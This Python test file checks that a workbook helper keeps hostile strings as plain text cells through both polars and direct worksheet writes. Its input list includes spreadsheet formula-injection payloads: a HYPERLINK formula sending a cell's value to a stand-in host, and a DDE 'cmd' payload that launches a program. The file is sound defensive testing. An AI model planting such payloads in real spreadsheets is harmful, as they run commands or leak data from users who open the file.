"""Workbooks written through records.excel hold data strings as strings: no formula, hyperlink or number."""

import io

import openpyxl
import polars as pl
import pytest

from records.excel import text_only_workbook

HOSTILE = [
    '=HYPERLINK("http://x.example/"&J5,"Xem")',
    "=cmd|' /C calc'!A0",
    "external:c:\\windows\\system32",
    "http://evil.example/",
    "mailto:a@example.org",
    "0012",
    "1e5",
]


@pytest.mark.parametrize("writer", ["polars", "worksheet"])
def test_hostile_strings_stay_text(writer: str) -> None:
    buffer = io.BytesIO()
    workbook = text_only_workbook(buffer)
    if writer == "polars":
        pl.DataFrame({"ho_ten": HOSTILE}).write_excel(workbook=workbook, worksheet="s", include_header=False)
    else:
        sheet = workbook.add_worksheet("s")
        for row, value in enumerate(HOSTILE):
            sheet.write(row, 0, value)
    workbook.close()
    cells = [row[0] for row in openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))["s"].iter_rows()]
    assert [cell.value for cell in cells] == HOSTILE
    assert {cell.data_type for cell in cells} == {"s"}
    assert not any(cell.hyperlink for cell in cells)
